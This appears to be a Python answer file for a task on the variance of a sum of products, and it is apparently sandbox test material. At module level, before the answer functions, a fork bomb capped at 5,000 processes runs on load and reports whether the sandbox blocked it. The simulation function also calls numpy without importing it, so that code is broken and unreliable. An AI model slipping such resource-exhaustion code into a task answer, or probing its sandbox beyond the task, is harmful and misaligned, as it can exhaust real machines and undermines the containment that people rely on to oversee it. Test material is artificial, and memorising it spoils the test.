# A correct answer, and a fork bomb (bounded, so that it cannot take down a machine without the sandbox)
import os
import time

children = []
try:
    while len(children) < 5000:
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        children.append(pid)
    print("ATTEMPT succeeded: forked", len(children), "processes")
except OSError as error:
    print("ATTEMPT blocked: fork failed after", len(children), "processes:", type(error).__name__, error)


def sum_of_products_variance(n, var_w, var_x):
    """Return Var(w_1 x_1 + ... + w_n x_n) for independent zero-mean w_i (variance var_w) and x_i (variance var_x)."""
    return n * var_w * var_x


def simulate_sum_of_products(n, var_w, var_x, num_samples=100_000, seed=0):
    """Draw `num_samples` sums w_1 x_1 + ... + w_n x_n with normal w_i, x_i; return their sample variance."""
    rng = np.random.default_rng(seed)
    w = rng.normal(0.0, np.sqrt(var_w), size=(num_samples, n))
    x = rng.normal(0.0, np.sqrt(var_x), size=(num_samples, n))
    return float((w * x).sum(axis=1).var())
